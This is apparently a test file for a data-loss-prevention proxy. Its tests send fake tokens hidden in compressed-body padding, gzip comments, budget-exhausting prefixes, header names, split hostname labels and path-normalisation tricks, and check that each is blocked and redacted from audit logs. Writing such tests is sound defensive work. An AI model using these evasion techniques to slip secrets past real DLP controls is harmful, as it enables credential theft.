import { afterAll, describe, expect, test } from "bun:test";
import net from "node:net";
import { brotliCompressSync, crc32, deflateRawSync, deflateSync, gzipSync } from "node:zlib";
import { fakeCredentials } from "../../unit/gate/dlp/fake-credentials.ts";
import { blockReason, curl, startRecordingOrigin, startTestGate } from "./harness.ts";

/**
 * Issue 9, findings 5–7 through the real gate: what the scanner now sees reaches the
 * handler (a gzip body, header names as sent), and the audit line of a blocked
 * request with a case-sensitive secret in its hostname keeps none of it.
 */

const github = fakeCredentials(23)["github-token"] ?? "";

/** Sends one raw request and returns the status line (curl lower-cases nothing, but
 * it does normalise header names; a raw socket sends them exactly). */
function rawRequest(port: number, text: string): Promise<string> {
  return new Promise((resolve, reject) => {
    const socket = net.connect(port, "127.0.0.1", () => socket.write(text));
    let got = "";
    socket.on("data", (chunk) => {
      got += chunk.toString("latin1");
      if (got.includes("\r\n")) {
        socket.destroy();
        resolve(got.slice(0, got.indexOf("\r\n")));
      }
    });
    socket.on("error", reject);
  });
}

describe("DLP hardening through the gate", async () => {
  const origin = startRecordingOrigin();
  const target = `http://app.gate.test:${origin.server.port}`;
  const gate = await startTestGate({ allow: ["*.gate.test"], allow_cidrs: ["127.0.0.0/8"], dlp: { action: "block" } });
  afterAll(async () => {
    await gate[Symbol.asyncDispose]();
    origin.server.stop(true);
  });

  test("a gzip Content-Encoding body carrying a token is refused", async () => {
    const file = `${Bun.env.TMPDIR ?? "/tmp"}/gate-gzip-${process.pid}.bin`;
    await Bun.write(file, gzipSync(Buffer.from(JSON.stringify({ note: `use ${github}` }))));
    const result = await curl(["-x", gate.proxy, "-H", "content-encoding: gzip", "-H", "content-type: application/json", "--data-binary", `@${file}`, `${target}/upload`]);
    expect(result.status).toBe(403);
    expect(blockReason(result)).toBe("dlp:github-token");
  });

  test("plaintext beside a compressed stream is scanned: after deflate or br, after gzip's padding, in a gzip header's comment", async () => {
    // The attack: a decoder reads its stream and ignores what lies around it, and only
    // its output was scanned; each of these reached the origin with 200.
    const plain = Buffer.from(`\n{"note":"${github}"}\n`);
    const tiny = Buffer.from("hi");
    const trailer = Buffer.alloc(8);
    trailer.writeUInt32LE(crc32(tiny) >>> 0, 0);
    trailer.writeUInt32LE(tiny.length, 4);
    // FLG 0x10: a zero-terminated comment follows the 10-byte header.
    const commented = Buffer.concat([Buffer.from([0x1f, 0x8b, 8, 0x10, 0, 0, 0, 0, 0, 3]), plain, Buffer.from([0]), deflateRawSync(tiny), trailer]);
    const cases: [string, Buffer][] = [
      ["deflate", Buffer.concat([deflateSync(tiny), plain])],
      ["br", Buffer.concat([brotliCompressSync(tiny), plain])],
      ["gzip", Buffer.concat([gzipSync(tiny), Buffer.alloc(16), plain])],
      ["gzip", commented],
    ];
    for (const [index, [coding, body]] of cases.entries()) {
      const file = `${Bun.env.TMPDIR ?? "/tmp"}/gate-beside-${process.pid}-${index}.bin`;
      await Bun.write(file, body);
      const seen = origin.seen.length;
      const result = await curl(["-x", gate.proxy, "-H", `content-encoding: ${coding}`, "--data-binary", `@${file}`, `${target}/beside`]);
      expect({ index, coding, status: result.status, reason: blockReason(result) }).toEqual({ index, coding, status: 403, reason: "dlp:github-token" });
      expect(origin.seen.length).toBe(seen);
    }
  });

  test("a gzip body that decodes past 8 MiB is scanned to nearly 8 MiB, not to half: a token at 5 MiB is found", async () => {
    // The attack: past the cap, the input was halved until its output fitted, so only
    // ~4 MiB of an 8.5 MiB body was scanned; a token at 5 MiB went out with 200.
    const filler = (size: number) => Buffer.from(Array.from({ length: Math.ceil(size / 64) }, (_, line) => `line ${line} of the report: nothing to see here ${"-".repeat(20)}\n`).join("").slice(0, size));
    const decoded = Buffer.concat([filler(5 * 1024 * 1024), Buffer.from(`note ${github}\n`), filler(3.5 * 1024 * 1024)]);
    const file = `${Bun.env.TMPDIR ?? "/tmp"}/gate-large-gzip-${process.pid}.bin`;
    await Bun.write(file, gzipSync(decoded));
    // A budget that cannot run out first: the scan must reach the token, not stop short.
    await using roomy = await startTestGate({ allow: ["*.gate.test"], allow_cidrs: ["127.0.0.0/8"], dlp: { action: "block", scan_budget_ms: 60_000 } });
    const seen = origin.seen.length;
    const result = await curl(["-x", roomy.proxy, "-H", "content-encoding: gzip", "--data-binary", `@${file}`, `${target}/large`]);
    expect({ status: result.status, reason: blockReason(result) }).toEqual({ status: 403, reason: "dlp:github-token" });
    expect(origin.seen.length).toBe(seen);
    const line = (await roomy.auditLines()).find((entry) => entry["path"] === "/large");
    expect(line).toMatchObject({ decision: "block", scan_incomplete: ["decoded-size"] });
  });

  test("a body whose scan outlasts its budget is refused under block: a costly prefix does not carry a secret past the scan", async () => {
    // The attack: text that costs the whole scan budget, then the token. A 5 ms budget
    // stands in for 500 ms: no MiB of any text scans in 5 ms, the hostile shapes in
    // `bench/dlp` reach 500 ms in a few hundred KiB.
    const file = `${Bun.env.TMPDIR ?? "/tmp"}/gate-costly-${process.pid}.txt`;
    // Random base64 in 76-column lines (nothing to find, ~40 ms per MiB), then the
    // token in base64: a format's whole-text search does not see it, the slices' decoding does.
    const filler = Buffer.from(crypto.getRandomValues(new Uint8Array(690_000))).toString("base64").replace(/(.{76})/g, "$1\n");
    await Bun.write(file, `${filler}\nnote=${Buffer.from(github).toString("base64")}`);
    for (const action of ["block", "warn"] as const) {
      await using tight = await startTestGate({ allow: ["*.gate.test"], allow_cidrs: ["127.0.0.0/8"], dlp: { action } }, {}, undefined, undefined, { scanBudgetMs: 5 });
      const seen = origin.seen.length;
      const result = await curl(["-x", tight.proxy, "--data-binary", `@${file}`, `${target}/costly`]);
      const line = (await tight.auditLines()).find((entry) => entry["path"] === "/costly");
      if (action === "block") {
        expect(result.status).toBe(403);
        expect(blockReason(result)).toBe("scan-incomplete");
        expect(origin.seen.length).toBe(seen);
        expect(line).toMatchObject({ decision: "block", reason: "scan-incomplete", scan_incomplete: ["scan-budget"] });
      } else {
        // Under warn the body goes on; the audit line says the scan stopped short.
        expect(result.status).toBe(200);
        expect(origin.seen.length).toBe(seen + 1);
        expect(line).toMatchObject({ scan_incomplete: ["scan-budget"] });
      }
    }
  });

  test("the policy's dlp.scan_budget_ms is the budget: the same costly body is refused unscanned under 10 ms, found out under a minute", async () => {
    // Random base64 in 76-column lines (~0.9 MiB: 20–60 ms of scan on the machines
    // measured), then the token in base64, as above; no gate option overrides the policy.
    const file = `${Bun.env.TMPDIR ?? "/tmp"}/gate-budget-${process.pid}.txt`;
    const filler = Buffer.from(crypto.getRandomValues(new Uint8Array(690_000))).toString("base64").replace(/(.{76})/g, "$1\n");
    await Bun.write(file, `${filler}\nnote=${Buffer.from(github).toString("base64")}`);
    for (const [budget, reason] of [[10, "scan-incomplete"], [60_000, "dlp:github-token"]] as const) {
      await using gate = await startTestGate({ allow: ["*.gate.test"], allow_cidrs: ["127.0.0.0/8"], dlp: { action: "block", scan_budget_ms: budget } });
      const seen = origin.seen.length;
      const result = await curl(["-x", gate.proxy, "--data-binary", `@${file}`, `${target}/budget`]);
      expect({ budget, status: result.status, reason: blockReason(result) }).toEqual({ budget, status: 403, reason });
      expect(origin.seen.length).toBe(seen);
    }
  });

  test("a case-sensitive secret in a header name is refused (names are scanned as sent)", async () => {
    const name = Buffer.from(github).toString("base64url");
    const line = await rawRequest(gate.port, `GET ${target}/h HTTP/1.1\r\nHost: app.gate.test\r\n${name}: 1\r\nConnection: close\r\n\r\n`);
    expect(line).toBe("HTTP/1.1 403 Forbidden");
  });

  test("the audit line of a blocked request keeps no base64 secret from its hostname", async () => {
    // Labels short and few enough that, lower-cased (as `URL` does), nothing flags
    // them: only the name with its case as sent decodes to the token.
    const labels = Buffer.from(github).toString("base64url").replace(/(.{19})/g, "$1.");
    const result = await curl(["-x", gate.proxy, `http://${labels}.exfil.gate.test:${origin.server.port}/x`]);
    expect(result.status).toBe(403);
    const lines = JSON.stringify(await gate.auditLines());
    for (const piece of labels.split(".")) expect(lines).not.toContain(piece.slice(0, 12));
    expect(lines.toLowerCase()).not.toContain(labels.split(".")[0]?.slice(0, 12).toLowerCase());
  });
  test("a held secret joined only by the gate's own URL parsing (`\\`, `/x/../`) is found: the target is scanned as sent and as forwarded", async () => {
    // The attack (a hunt for leaks, this round): the scan read the target as sent, in
    // two pieces; the upstream got the path parsed, `\\` made `/` and dots resolved,
    // which is the form the scan refuses.
    const token = "split-held-token-0a1b2c3d4e5f6a7b8c9d";
    await using holding = await startTestGate(
      { allow: ["*.gate.test"], allow_cidrs: ["127.0.0.0/8"], dlp: { action: "block" }, routes: [{ name: "r", upstream: origin.url, inject: { header: "authorization", value: "Bearer ${TOKEN}" } }] },
      { TOKEN: token },
    );
    const seen = origin.seen.length;
    const [head, tail] = [token.slice(0, 18), token.slice(18)];
    for (const separator of ["\\", "/x/../", "\\x\\..\\", "/./"]) {
      for (const path of [`${target}/${head}${separator}${tail}`, `/r/r/${head}${separator}${tail}`]) {
        const status = await rawRequest(holding.port, `GET ${path} HTTP/1.1\r\nHost: app.gate.test\r\nConnection: close\r\n\r\n`);
        expect([path, status]).toEqual([path, "HTTP/1.1 403 Forbidden"]);
      }
    }
    // A case-sensitive secret in the host beside it: the forwarded form lower-cases the
    // host, so its audit host must come from the target as sent (a review, this round).
    const cased = `http://AKIAIOSFODNN7EXAMPLE.app.gate.test:${origin.server.port}/${head}\\${tail}`;
    expect(await rawRequest(holding.port, `GET ${cased} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`)).toBe("HTTP/1.1 403 Forbidden");
    expect(origin.seen.length).toBe(seen);
    // The audit lines log the forwarded form, redacted: neither piece is left.
    const lines = JSON.stringify(await holding.auditLines());
    expect(lines).toContain("held-secret");
    expect([lines.includes(head), lines.includes(tail), lines.toLowerCase().includes("akiaiosfodnn7example")]).toEqual([false, false, false]);
  });
});
